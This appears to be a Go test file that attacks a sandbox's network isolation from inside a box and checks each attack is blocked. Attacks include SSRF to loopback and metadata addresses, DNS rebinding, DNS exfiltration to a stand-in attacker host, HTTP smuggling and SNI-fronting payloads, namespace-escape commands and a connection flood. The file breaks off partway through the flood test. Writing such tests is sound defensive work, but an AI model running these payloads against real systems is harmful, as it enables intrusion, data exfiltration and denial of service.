package app

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/quro-dev/quro/internal/egress"
	"github.com/quro-dev/quro/internal/soak"
)

// Attacks on a session box's network, run as box code would run them
// (bash, curl, Python, Node inside a real box), each asserting that the
// attack fails and that nothing on the host saw a connection.

// hostListener is a TCP listener on every address of the host (the
// stand-in for the Quro server's own port or any host service): it
// counts the connections it accepts, and how many were open at once, and
// answers each with a marker.
type hostListener struct {
	ln        net.Listener
	port      int
	n         atomic.Int64
	cur, peak atomic.Int64
}

func newHostListener(t *testing.T, network, addr string) *hostListener {
	t.Helper()
	ln, err := net.Listen(network, addr)
	if err != nil {
		t.Fatal(err)
	}
	h := &hostListener{ln: ln, port: ln.Addr().(*net.TCPAddr).Port}
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			h.n.Add(1)
			cur := h.cur.Add(1)
			for p := h.peak.Load(); cur > p && !h.peak.CompareAndSwap(p, cur); p = h.peak.Load() {
			}
			go func() {
				defer h.cur.Add(-1)
				defer c.Close()
				_, _ = io.WriteString(c, "HTTP/1.0 200 OK\r\n\r\nhello-from-the-host\n")
				_, _ = io.Copy(io.Discard, c) // held until the client closes
			}()
		}
	}()
	return h
}

// hostAddrs are the host's own addresses (loopback and its interfaces').
func hostAddrs(t *testing.T) []netip.Addr {
	t.Helper()
	ifs, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	var out []netip.Addr
	for _, a := range ifs {
		if p, err := netip.ParsePrefix(a.String()); err == nil && !p.Addr().IsLinkLocalUnicast() {
			out = append(out, p.Addr())
		}
	}
	return out
}

func urlHost(a netip.Addr) string {
	if a.Is6() {
		return "[" + a.String() + "]"
	}
	return a.String()
}

// reached are the lines of out that say a target answered.
func reached(out string) []string {
	var r []string
	for _, l := range strings.Split(out, "\n") {
		if strings.Contains(l, "hello-from") || strings.Contains(l, "REACHED") {
			r = append(r, l)
		}
	}
	return r
}

// TestAttackNetworkEgressListenerDirect: box code connects straight to
// the egress listener (127.0.0.1:1, [::1]:1, not redirected) and asks it
// to relay: an origin-form, an absolute-form and a CONNECT request, and
// raw bytes. Each connection is refused ("not redirected") and the
// stand-in sees nothing.
func TestAttackNetworkEgressListenerDirect(t *testing.T) {
	t.Parallel()
	st := newStandIn(t)
	a := netApp(t, st, NetworkOptions{})
	s := newSession(t, a, "direct", "internet")
	before := st.hits.Load()
	code := fmt.Sprintf(`import socket
reqs = [b"GET / HTTP/1.1\r\nHost: allowed.test:%[1]d\r\n\r\n",
        b"GET http://allowed.test:%[1]d/ HTTP/1.1\r\nHost: allowed.test:%[1]d\r\n\r\n",
        b"CONNECT allowed.test:%[1]d HTTP/1.1\r\nHost: allowed.test:%[1]d\r\n\r\nGET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
        b"\x16\x03\x01\x00\x05hello"]
for fam, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1"), (socket.AF_INET6, "::ffff:127.0.0.1")):
    for r in reqs:
        try:
            s = socket.socket(fam, socket.SOCK_STREAM)
            s.settimeout(5)
            s.connect((host, 1))
            s.sendall(r)
            data = s.recv(4096)
            print(host, "got", data[:60])
        except OSError as e:
            print(host, "refused", e)
`, st.port)
	res := runCode(t, a, RunCodeInput{Session: s.ID, Lang: "python", Code: code})
	t.Logf("%s\n%s", res.Stdout, res.Stderr)
	if r := reached(res.Stdout); len(r) > 0 || strings.Contains(res.Stdout, "got b'H") {
		t.Errorf("the egress listener relayed a direct connection: %v\n%s", r, res.Stdout)
	}
	if n := st.hits.Load() - before; n != 0 {
		t.Errorf("the stand-in saw %d requests", n)
	}
	notRedirected := 0
	for _, ev := range a.egress.events.list(s.ID) {
		if ev.Reason == "not redirected" {
			notRedirected++
		}
	}
	if notRedirected == 0 {
		t.Errorf("no 'not redirected' refusal in the egress log: %+v", a.egress.events.list(s.ID))
	}
}

// TestAttackNetworkHostAddresses: box code tries every spelling of the
// host's loopback, its interfaces' addresses, the metadata service and
// names that resolve to them, with curl, Python and Node; neither the
// host listener (on all of the host's addresses) nor the stand-in sees a
// connection.
func TestAttackNetworkHostAddresses(t *testing.T) {
	t.Parallel()
	st := newStandIn(t)
	hl := newHostListener(t, "tcp", ":0")
	own := hostAddrs(t)
	a := netApp(t, st, NetworkOptions{})
	s := newSession(t, a, "hostaddr", "internet")
	var targets []string
	for _, port := range []int{hl.port, st.port} {
		for _, h := range []string{
			"127.0.0.2", "127.255.255.254", "0.0.0.0", "0", "[::ffff:127.0.0.1]", "[::1]", "[::]",
			"[::127.0.0.1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::1]", "[::ffff:0:7f00:1]",
			"2130706433", "0x7f.1", "017700000001", "127.1", "0x7f000001",
			"169.254.169.254", "[fd00:ec2::254]", "[fe80::1]", "100.100.100.200",
			"rebind.test", "private.test", "localhost", "localhost.",
		} {
			targets = append(targets, fmt.Sprintf("http://%s:%d/", h, port))
		}
		for _, ad := range own {
			targets = append(targets, fmt.Sprintf("http://%s:%d/", urlHost(ad), port))
		}
	}
	script := "for u in " + strings.Join(targets, " ") + "; do out=$(curl -sS --max-time 4 \"$u\" 2>&1); echo \"$u rc=$? $out\"; done"
	res := runCode(t, a, RunCodeInput{Session: s.ID, Lang: "bash", Code: script})
	t.Logf("%s\n%s", res.Stdout, res.Stderr)
	if r := reached(res.Stdout); len(r) > 0 {
		t.Errorf("curl reached the host: %v", r)
	}
	if !strings.Contains(res.Stdout, "rc=") {
		t.Fatalf("the loop did not run: %+v", res)
	}
	py := fmt.Sprintf(`import socket
for host in ["127.0.0.1", "127.0.0.2", "0.0.0.0", "::1", "::", "::ffff:127.0.0.1", "64:ff9b::7f00:1", "169.254.169.254", %s]:
    for port in (%d, %d):
        try:
            c = socket.create_connection((host, port), timeout=4)
            c.sendall(b"GET / HTTP/1.0\r\nHost: allowed.test\r\n\r\n")
            print(host, port, "REACHED?", c.recv(100))
        except OSError as e:
            print(host, port, "refused", e)
`, pyList(own), hl.port, st.port)
	res = runCode(t, a, RunCodeInput{Session: s.ID, Lang: "python", Code: py})
	t.Logf("%s\n%s", res.Stdout, res.Stderr)
	for _, l := range reached(res.Stdout) {
		if !strings.Contains(l, "b''") { // an accepted then closed connection is the egress refusing
			t.Errorf("Python reached the host: %s", l)
		}
	}
	node := fmt.Sprintf(`node -e '
const net = require("net");
const hosts = ["127.0.0.1", "::1", "::ffff:127.0.0.1", "0.0.0.0", "169.254.169.254"];
let left = hosts.length;
for (const h of hosts) {
  const c = net.connect({host: h, port: %d, timeout: 4000}, () => c.write("GET / HTTP/1.0\r\n\r\n"));
  c.on("data", d => console.log(h, "data", String(d).slice(0, 40)));
  const end = e => { console.log(h, "end", e ? e.code : ""); c.destroy(); if (--left === 0) process.exit(0) };
  c.on("error", end); c.on("timeout", end); c.on("close", () => end());
}'`, hl.port)
	res = runCode(t, a, RunCodeInput{Session: s.ID, Lang: "bash", Code: node})
	t.Logf("%s\n%s", res.Stdout, res.Stderr)
	if r := reached(res.Stdout); len(r) > 0 {
		t.Errorf("Node reached the host: %v", r)
	}
	if n := hl.n.Load(); n != 0 {
		t.Errorf("the host listener saw %d connections from the box", n)
	}
	if n := st.hits.Load(); n != 0 {
		t.Errorf("the stand-in saw %d requests", n)
	}
}

func pyList(as []netip.Addr) string {
	var q []string
	for _, a := range as {
		q = append(q, fmt.Sprintf("%q", a.String()))
	}
	return strings.Join(q, ", ")
}

// TestAttackNetworkHostByName: a name that resolves to the host's own
// interface address (an attacker's DNS pointing at the server) or
// alternately to a public and a loopback address (DNS rebinding) is
// never dialed at a refused address: the egress resolves by itself and
// checks what it dials.
func TestAttackNetworkHostByName(t *testing.T) {
	t.Parallel()
	st := newStandIn(t)
	hl := newHostListener(t, "tcp", ":0")
	own := hostAddrs(t)
	var flips atomic.Int64
	a, err := New(context.Background(), t.TempDir(), &Options{Python: testPython, Network: NetworkOptions{
		Trusted: []string{fmt.Sprintf("allowed.test:%d", st.port)},
		Resolve: func(ctx context.Context, host string) ([]netip.Addr, error) {
			switch host {
			case "server.test": // an attacker's name pointed at the server
				return own, nil
			case "flip.test": // rebinding: public, then loopback, then public…
				if flips.Add(1)%2 == 1 {
					return []netip.Addr{netip.MustParseAddr("198.51.100.7")}, nil
				}
				return []netip.Addr{netip.MustParseAddr("127.0.0.1")}, nil
			case "both.test":
				return []netip.Addr{netip.MustParseAddr("127.0.0.1"), netip.MustParseAddr("::1")}, nil
			}
			return st.resolve(ctx, host)
		},
	}})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { a.Close() })
	needBoxes(t, a)
	s := newSession(t, a, "byname", "internet")
	var targets []string
	for _, port := range []int{hl.port, st.port} {
		for _, h := range []string{"server.test", "flip.test", "flip.test", "flip.test", "both.test"} {
			targets = append(targets, fmt.Sprintf("http://%s:%d/", h, port))
		}
	}
	script := "for u in " + strings.Join(targets, " ") + "; do out=$(curl -sS --max-time 4 \"$u\" 2>&1); echo \"$u rc=$? $out\"; done"
	res := runCode(t, a, RunCodeInput{Session: s.ID, Lang: "bash", Code: script})
	t.Logf("%s\n%s", res.Stdout, res.Stderr)
	if r := reached(res.Stdout); len(r) > 0 {
		t.Errorf("a name reached the host: %v", r)
	}
	if hl.n.Load() != 0 || st.hits.Load() != 0 {
		t.Errorf("host listener %d, stand-in %d connections", hl.n.Load(), st.hits.Load())
	}
	for _, ev := range a.egress.events.list(s.ID) {
		if ev.Addr != "" {
			if ap, err := netip.ParseAddrPort(ev.Addr); err == nil && (egress.Class(ap.Addr()) != "" || isOwn(ap.Addr(), own)) {
				t.Errorf("the egress dialed a refused address: %+v", ev)
			}
		}
	}
}

func isOwn(a netip.Addr, own []netip.Addr) bool {
	for _, o := range own {
		if o.Unmap() == a.Unmap() {
			return true
		}
	}
	return false
}

// TestAttackNetworkDNS: under allow_out allowed.test, DNS to a public
// resolver over UDP is answered by the box's own DNS (fake addresses,
// other names refused), DNS over TCP to 8.8.8.8 is refused (an address
// not listed), DNS over IPv6 goes nowhere; a box churning its DNS past
// the name map's cap cannot make an old fake address stand for a name
// its rules refuse.
func TestAttackNetworkDNS(t *testing.T) {
	t.Parallel()
	st := newStandIn(t)
	a := netApp(t, st, NetworkOptions{Trusted: []string{fmt.Sprintf("other.test:%d", st.port)}})
	st.also("other.test")
	s := mustCall(t, a, "create_session", CreateSessionInput{Name: "dns", Network: "internet", AllowOut: []string{"allowed.test"}}).(*SessionInfo)
	code := `import socket, struct
def q(name):
    h = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    b = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return h + b + struct.pack(">HH", 1, 1)
def ans(r):
    rc = r[3] & 15
    if rc: return "rcode%d" % rc
    return ".".join(str(x) for x in r[-4:])
for name in ("allowed.test", "other.test", "exfil-secret.attacker.example"):
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(3)
    try:
        u.sendto(q(name), ("8.8.8.8", 53)); r, src = u.recvfrom(512); print("udp", name, ans(r), src[0])
    except OSError as e: print("udp", name, "err", e)
try:
    t = socket.create_connection(("8.8.8.8", 53), timeout=4); m = q("other.test")
    t.sendall(struct.pack(">H", len(m)) + m); print("tcp53 REACHED?", t.recv(512))
except OSError as e: print("tcp53 refused", e)
try:
    u6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); u6.settimeout(3)
    u6.sendto(q("other.test"), ("2001:4860:4860::8888", 53)); print("udp6 REACHED?", u6.recvfrom(512))
except OSError as e: print("udp6 refused", e)
`
	res := runCode(t, a, RunCodeInput{Session: s.ID, Lang: "python", Code: code})
	t.Logf("%s\n%s", res.Stdout, res.Stderr)
	out := res.Stdout
	if !strings.Contains(out, "udp allowed.test 198.1") || !strings.Contains(out, "udp other.test rcode") ||
		!strings.Contains(out, "udp exfil-secret.attacker.example rcode") || !strings.Contains(out, "tcp53 refused") {
		t.Errorf("DNS under allow_out allowed.test:\n%s\n%s", out, res.Stderr)
	}
	if strings.Contains(out, "REACHED") {
		t.Errorf("DNS left the box:\n%s", out)
	}
	found := false
	for _, ev := range a.egress.events.list(s.ID) {
		found = found || ev.Dest == "8.8.8.8:53" && ev.Decision == egress.Denied
	}
	if !found {
		t.Errorf("no refusal of 8.8.8.8:53 in the log: %+v", a.egress.events.list(s.ID))
	}

	// Name-map churn under internet with deny_out other.test: the box
	// learns allowed.test's fake address, asks 4100 other names (the cap
	// is 4096), then connects to the old address with Host other.test.
	s2 := mustCall(t, a, "create_session", CreateSessionInput{Name: "churn", Network: "internet", DenyOut: []string{"other.test"}}).(*SessionInfo)
	churn := fmt.Sprintf(`import socket
old = socket.gethostbyname("allowed.test")
for i in range(%d):
    socket.gethostbyname("n%%d.churn.test" %% i)
try:
    print("other", socket.gethostbyname("other.test"))
except OSError as e:
    print("other refused", e)
for host in ("other.test", "allowed.test"):
    try:
        c = socket.create_connection((old, %d), timeout=5)
        c.sendall(("GET / HTTP/1.0\r\nHost: %%s\r\n\r\n" %% host).encode())
        print(old, host, c.recv(200))
    except OSError as e:
        print(old, host, "refused", e)
`, egress.MaxNames+4, st.port)
	before := st.hits.Load()
	// 4100 lookups through the box's DNS: the run's own budget too, not the 30 s default.
	res = runCodeWithin(t, a, RunCodeInput{Session: s2.ID, Lang: "python", Code: churn, TimeoutMS: 4 * 60 * 1000}, 5*time.Minute)
	t.Logf("%s\n%s", res.Stdout, res.Stderr)
	if strings.Contains(res.Stdout, "hello-from-other") || !strings.Contains(res.Stdout, "other refused") {
		t.Errorf("an old fake address reached a denied name:\n%s\n%s", res.Stdout, res.Stderr)
	}
	if strings.Contains(res.Stdout, "hello-from") || st.hits.Load() != before {
		t.Errorf("a recycled fake address still reached the old name's address:\n%s", res.Stdout)
	}
}

// TestAttackNetworkRulesBypass: under allow_out allowed.test, with
// other.test at the same address (a shared front), box code connects to
// allowed.test and asks for other.test every way it can: another SNI,
// (whole, or its ClientHello cut into 40- and 1-byte records), a
// pipelined second request, an absolute-form target, CONNECT, HTTP/2
// with prior knowledge, plain HTTP after a WebSocket upgrade, a
// chunked-body smuggle.
func TestAttackNetworkRulesBypass(t *testing.T) {
	t.Parallel()
	st := newStandIn(t)
	a := netApp(t, st, NetworkOptions{Trusted: []string{fmt.Sprintf("other.test:%d", st.port)}})
	st.also("other.test")
	s := mustCall(t, a, "create_session", CreateSessionInput{Name: "bypass", Network: "internet", AllowOut: []string{"allowed.test"}}).(*SessionInfo)
	p := st.port
	code := fmt.Sprintf(`import socket, ssl, time
P = %d
def send(label, data, wait=0, pre=b""):
    try:
        c = socket.create_connection(("allowed.test", P), timeout=8)
        if pre: c.sendall(pre)
        if wait: time.sleep(wait)
        c.sendall(data)
        out = b""
        while True:
            d = c.recv(65536)
            if not d: break
            out += d
        print(label, out.replace(b"\r\n", b" ")[:400])
    except OSError as e:
        print(label, "refused", e)
A = b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n"
O = b"GET / HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n"
send("pipelined", A + O)
send("absolute", b"GET http://other.test:%%d/ HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n" %% P)
send("connect", b"CONNECT other.test:%%d HTTP/1.1\r\nHost: allowed.test\r\n\r\n" %% P + O)
send("upgrade-text", b"GET / HTTP/1.1\r\nHost: allowed.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n" + O)
send("upgrade-binary", b"GET / HTTP/1.1\r\nHost: allowed.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n\x00" + O)
send("chunked-smuggle", b"POST / HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n" + O)
send("te-smuggle", b"POST / HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n\r\n" + b"%%x\r\n" %% len(O) + O + b"\r\n0\r\n\r\n" + O)
send("host-and-absolute", b"GET http://allowed.test/ HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n")
send("two-hosts", b"GET / HTTP/1.1\r\nHost: allowed.test\r\nHost: other.test\r\nConnection: close\r\n\r\n")
send("folded", b"GET / HTTP/1.1\r\nX: y\r\n Host: other.test\r\nHost: allowed.test\r\nConnection: close\r\n\r\n")
send("http10-nohost", b"GET http://other.test/ HTTP/1.0\r\n\r\n")
send("userinfo", b"GET http://allowed.test@other.test/ HTTP/1.1\r\nHost: allowed.test@other.test\r\nConnection: close\r\n\r\n")
send("h2-preface", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
try:
    raw = socket.create_connection(("allowed.test", P), timeout=8)
    tls = ctx.wrap_socket(raw, server_hostname="other.test")
    print("sni REACHED?", tls.version())
except (OSError, ssl.SSLError) as e:
    print("sni refused", e)
# The same ClientHello cut into two TLS records, then into 1-byte records.
inc, outb = ssl.MemoryBIO(), ssl.MemoryBIO()
obj = ctx.wrap_bio(inc, outb, server_hostname="other.test")
try: obj.do_handshake()
except ssl.SSLWantReadError: pass
hello = outb.read()
body = hello[5:]
def records(size):
    return b"".join(hello[:3] + len(body[i:i+size]).to_bytes(2, "big") + body[i:i+size] for i in range(0, len(body), size))
for size in (40, 1):
    try:
        c = socket.create_connection(("allowed.test", P), timeout=8)
        c.sendall(records(size))
        print("sni-fragmented-%%d" %% size, "REACHED?" if c.recv(100) else "closed")
    except OSError as e:
        print("sni-fragmented-%%d" %% size, "refused", e)
`, p)
	res := runCodeWithin(t, a, RunCodeInput{Session: s.ID, Lang: "python", Code: code}, 3*time.Minute)
	t.Logf("%s\n%s", res.Stdout, res.Stderr)
	for _, l := range strings.Split(res.Stdout, "\n") {
		if strings.Contains(l, "hello-from-other") || strings.Contains(l, "REACHED") {
			t.Errorf("rules bypass: %s", l)
		}
	}
	if !strings.Contains(res.Stdout, "sni ") || !strings.Contains(res.Stdout, "pipelined") {
		t.Fatalf("the attacks did not run: %+v", res)
	}
	// curl's HTTP/2 with prior knowledge, a forged :authority.
	res = runCode(t, a, RunCodeInput{Session: s.ID, Lang: "bash", Code: fmt.Sprintf("curl -sS --max-time 5 --http2-prior-knowledge -H 'Host: other.test' http://allowed.test:%d/; echo rc=$?", p)})
	t.Logf("%s\n%s", res.Stdout, res.Stderr)
	if strings.Contains(res.Stdout, "hello-from-other") {
		t.Errorf("HTTP/2 prior knowledge reached other.test: %+v", res)
	}
	log := a.egress.events.list(s.ID)
	sni := false
	for _, ev := range log {
		sni = sni || strings.Contains(ev.Reason, "SNI other.test")
	}
	if !sni {
		t.Errorf("no SNI refusal in the log: %+v", log)
	}
}

// TestAttackNetworkRulesOpaqueFronting: on a port other than 80 and 443,
// an HTTP request the server would read that names another host behind
// the allowed name's address — with a lower-case method, or sent after
// the egress's 5 s peek — is refused: any method token is HTTP, and a
// client's late first bytes are checked when they come.
func TestAttackNetworkRulesOpaqueFronting(t *testing.T) {
	t.Parallel()
	st := newStandIn(t)
	a := netApp(t, st, NetworkOptions{Trusted: []string{fmt.Sprintf("other.test:%d", st.port)}})
	st.also("other.test")
	s := mustCall(t, a, "create_session", CreateSessionInput{Name: "opaque", Network: "internet", AllowOut: []string{"allowed.test"}}).(*SessionInfo)
	code := fmt.Sprintf(`import socket, time
P = %d
def send(label, data, wait=0):
    try:
        c = socket.create_connection(("allowed.test", P), timeout=12)
        if wait: time.sleep(wait)
        c.sendall(data)
        out = b""
        while True:
            d = c.recv(65536)
            if not d: break
            out += d
        print(label, out.replace(b"\r\n", b" ")[-60:])
    except OSError as e:
        print(label, "refused", e)
send("lowercase-method", b"get / HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n")
send("after-peek-timeout", b"GET / HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n", wait=6)
send("leading-crlf", b"\r\nGET / HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n")
`, st.port)
	res := runCodeWithin(t, a, RunCodeInput{Session: s.ID, Lang: "python", Code: code}, 3*time.Minute)
	t.Logf("%s\n%s", res.Stdout, res.Stderr)
	var bypass []string
	for _, l := range strings.Split(res.Stdout, "\n") {
		if strings.Contains(l, "hello-from-other") {
			bypass = append(bypass, l)
		}
	}
	if len(bypass) > 0 {
		t.Errorf("Host check bypassed on a non-web port under allow_out: %v", bypass)
	}
}

// TestAttackNetworkNamespaceEscape: the box's root cannot change its
// namespace's routes, addresses or nftables rules, its sysctls, open raw
// or packet sockets, bind the egress's or DNS's ports, or ping out; and
// after trying, the rules still hold.
func TestAttackNetworkNamespaceEscape(t *testing.T) {
	t.Parallel()
	st := newStandIn(t)
	a := netApp(t, st, NetworkOptions{})
	s := newSession(t, a, "escape", "internet")
	script := `
try() { if out=$("$@" 2>&1); then echo "ESCAPED: $* :: $out"; else echo "blocked: $* :: $out"; fi; }
try ip route add 127.0.0.0/8 dev lo table main
try ip route replace default dev lo
try ip addr add 10.9.9.9/32 dev lo
try ip link add veth0 type veth peer name veth1
try ip link set lo down
try nft flush ruleset
try nft delete table ip quro
try nft add table ip evil
try sh -c 'echo 1 > /proc/sys/net/ipv4/ip_forward'
try sh -c 'echo 0 > /proc/sys/net/ipv4/ip_unprivileged_port_start'
try sh -c 'echo 1 > /proc/sys/net/ipv4/conf/all/route_localnet'
try ping -c1 -W1 8.8.8.8
try ping -c1 -W1 198.51.100.1
`
	res := runCode(t, a, RunCodeInput{Session: s.ID, Lang: "bash", Code: script})
	t.Logf("%s\n%s", res.Stdout, res.Stderr)
	for _, l := range strings.Split(res.Stdout, "\n") {
		if strings.HasPrefix(l, "ESCAPED") && !strings.Contains(l, "command not found") {
			t.Errorf("%s", l)
		}
	}
	py := `import socket
def t(label, f):
    try:
        f(); print("ESCAPED", label)
    except Exception as e:
        print("blocked", label, e)
t("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW))
t("raw-icmp", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
t("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300))
t("netlink-route-write", lambda: __import__("subprocess").check_call(["ip", "route", "del", "default"]))
def bind(fam, typ, addr):
    s = socket.socket(fam, typ); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(addr); s.listen(1) if typ == socket.SOCK_STREAM else None
for addr in (("127.0.0.1", 1), ("0.0.0.0", 1), ("127.0.0.1", 53), ("0.0.0.0", 53), ("127.0.0.2", 80)):
    t("bind-tcp %s" % (addr,), lambda: bind(socket.AF_INET, socket.SOCK_STREAM, addr))
    t("bind-udp %s" % (addr,), lambda: bind(socket.AF_INET, socket.SOCK_DGRAM, addr))
t("bind-tcp6 ::1:1", lambda: bind(socket.AF_INET6, socket.SOCK_STREAM, ("::1", 1)))
t("bind-udp6 ::1:53", lambda: bind(socket.AF_INET6, socket.SOCK_DGRAM, ("::1", 53)))
`
	res = runCode(t, a, RunCodeInput{Session: s.ID, Lang: "python", Code: py})
	t.Logf("%s\n%s", res.Stdout, res.Stderr)
	if !strings.Contains(res.Stdout, "blocked raw") {
		t.Fatalf("the attacks did not run: %+v", res)
	}
	for _, l := range strings.Split(res.Stdout, "\n") {
		if strings.HasPrefix(l, "ESCAPED") {
			t.Errorf("%s", l)
		}
	}
	// unshare gives the box a namespace of its own with nothing in it:
	// no way out, not the host's.
	res = runCode(t, a, RunCodeInput{Session: s.ID, Lang: "bash", Code: fmt.Sprintf("unshare -rn sh -c 'ip link set lo up; curl -sS --max-time 3 http://127.0.0.1:%d/; echo rc=$?' 2>&1", st.port)})
	t.Logf("%s\n%s", res.Stdout, res.Stderr)
	if strings.Contains(res.Stdout, "hello-from") {
		t.Errorf("a namespace of the box's own reached the host: %+v", res)
	}
	// The rules still hold: allowed.test goes out, loopback by name does not, UDP 443 is dropped.
	res = runCode(t, a, RunCodeInput{Session: s.ID, Lang: "bash", Code: fmt.Sprintf("curl -sS --max-time 10 http://allowed.test:%d/; echo; curl -sS --max-time 5 http://rebind.test:%d/; echo rc=$?", st.port, st.port)})
	t.Logf("%s\n%s", res.Stdout, res.Stderr)
	if !strings.Contains(res.Stdout, "hello-from-allowed.test") || strings.Contains(res.Stdout, "hello-from-rebind") {
		t.Errorf("after the attempts: %+v", res)
	}
	if n := st.hits.Load(); n != 1 {
		t.Errorf("the stand-in saw %d requests, want 1", n)
	}
}

// TestAttackNetworkUDP: UDP other than DNS does not leave the box, over
// IPv4 or IPv6, to QUIC's port, to the host's addresses, or to the
// egress's TCP port; the host's UDP listener hears nothing.
func TestAttackNetworkUDP(t *testing.T) {
	t.Parallel()
	st := newStandIn(t)
	hu, err := net.ListenPacket("udp", ":0")
	if err != nil {
		t.Fatal(err)
	}
	defer hu.Close()
	var heard atomic.Int64
	go func() {
		b := make([]byte, 2048)
		for {
			if _, _, err := hu.ReadFrom(b); err != nil {
				return
			}
			heard.Add(1)
		}
	}()
	port := hu.LocalAddr().(*net.UDPAddr).Port
	a := netApp(t, st, NetworkOptions{})
	s := newSession(t, a, "udp", "internet")
	dests := []string{
		`(socket.AF_INET, ("203.0.113.7", 443))`,
		`(socket.AF_INET, ("8.8.8.8", 443))`,
		`(socket.AF_INET6, ("2001:4860:4860::8888", 443))`,
		`(socket.AF_INET6, ("::ffff:8.8.8.8", 443))`,
		`(socket.AF_INET, ("127.0.0.1", 1))`,
		fmt.Sprintf(`(socket.AF_INET, ("169.254.169.254", %d))`, port),
	}
	for _, ad := range hostAddrs(t) {
		fam := "socket.AF_INET"
		if ad.Is6() && !ad.Is4In6() {
			fam = "socket.AF_INET6"
		}
		dests = append(dests, fmt.Sprintf(`(%s, (%q, %d))`, fam, ad.String(), port))
	}
	code := `import socket
for fam, addr in [` + strings.Join(dests, ", ") + `]:
    s = socket.socket(fam, socket.SOCK_DGRAM)
    try:
        s.sendto(b"QUIC" * 300, addr); print("sent", addr)
    except OSError as e:
        print("dropped", addr, e.errno)
`
	res := runCode(t, a, RunCodeInput{Session: s.ID, Lang: "python", Code: code})
	t.Logf("%s\n%s", res.Stdout, res.Stderr)
	if !strings.Contains(res.Stdout, "dropped") {
		t.Fatalf("the attacks did not run: %+v", res)
	}
	time.Sleep(500 * time.Millisecond)
	if n := heard.Load(); n != 0 {
		t.Errorf("the host's UDP listener heard %d datagrams from the box:\n%s", n, res.Stdout)
	}
	for _, l := range strings.Split(res.Stdout, "\n") {
		// Sent to the box's own loopback (nothing there) is not out.
		if strings.HasPrefix(l, "sent") && !strings.Contains(l, "'127.0.0.1'") && !strings.Contains(l, "'::1'") {
			t.Errorf("UDP left the box: %s", l)
		}
	}
}

// TestAttackNetworkFlood: a box opens 1000 connections at once through
// the egress and holds them, another box slow-lorises the rules-mode
// peek; the egress holds at most the box's cap to the
// destination, and another session still goes out.
func TestAttackNetworkFlood(t *testing.T) {
	// Load, not a check of a rule: make test-soak runs it.
	soak.Skip(t)
	st := newStandIn(t)
	hl := newHostListener(t, "tcp4", "127.0.0.1:0")
	st.also("flood.test")
	a := netApp(t, st, NetworkOptions{Trusted: []string{fmt.Sprintf("flood.test:%d", hl.port)}})
	flood := newSession(t, a, "flood", "internet")
	slow := mustCall(t, a, "create_session", CreateSessionInput{Name: "slow", Network: "internet", AllowOut: []string{"allowed.test"}}).(*SessionInfo)
	victim := newSession(t, a, "victim", "internet")
	runCode(t, a, RunCodeInput{Session: victim.ID, Lang: "bash", Code: "true"}) // the victim's box is ready
	var wg sync.WaitGroup
	wg.Add(2)
	go func() {
		defer wg.Done()
		code := fmt.Sprintf(`import socket, time, resource
resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096)) if resource.getrlimit(resource.RLIMIT_NOFILE)[1] >= 4096 else None
ip = socket.gethostbyname("flood.test")
socks, errs = [], 0
for i in range(1000):
    s = socket.socket(); s.setblocking(False)
    try: s.connect((ip, %d))
    except BlockingIOError: pass
    except OSError: errs += 1
    socks.append(s)
open("flooding", "w").close()
time.sleep(15)
print("opened", len(socks), "errors", errs)
`, hl.port)
		res := runCodeWithin(t, a, RunCodeInput{Session: flood.ID, Lang: "python", Code: code}, 3*time.Minute)
		t.Logf("%s\n%s", res.Stdout, res.Stderr)
		t.Logf("flood: %s %s", res.Stdout, res.Stderr)
	}()
	go func() {
		defer wg.Done()
		code := fmt.Sprintf(`import socket, time
socks = []
for i in range(300):
    try: socks.append(socket.create_connection(("allowed.test", 443), timeout=2))
    except OSError: pass
    try: socks.append(socket.create_connection(("allowed.test", %d), timeout=2))
    except OSError: pass
open("slowing", "w").close()
time.sleep(8)
print("slow", len(socks))
`, st.port)
		res := runCodeWithin(t, a, RunCodeInput{Session: slow.ID, Lang: "python", Code: code}, 3*time.Minute)
		t.Logf("%s\n%s", res.Stdout, res.Stderr)
		t.Logf("slowloris: %s %s", res.Stdout, res.Stderr)
	}()
	// Both attacks hold their connections before the victim goes out.
	waitFor(t, "the flood and the slowloris hold their connections", func() bool {
		return inWorkspace(t, a, flood.ID, "flooding") && inWorkspace(t, a, slow.ID, "slowing")
	})
	start := time.Now()
	res := runCode(t, a, RunCodeInput{Session: victim.ID, Lang: "bash", Code: fmt.Sprintf("curl -sS --max-time 20 http://allowed.test:%d/", st.port)})
	t.Logf("%s\n%s", res.Stdout, res.Stderr)
	if !strings.Contains(res.Stdout, "hello-from-allowed.test") {
		t.Errorf("another session under the flood: %+v", res)
	}
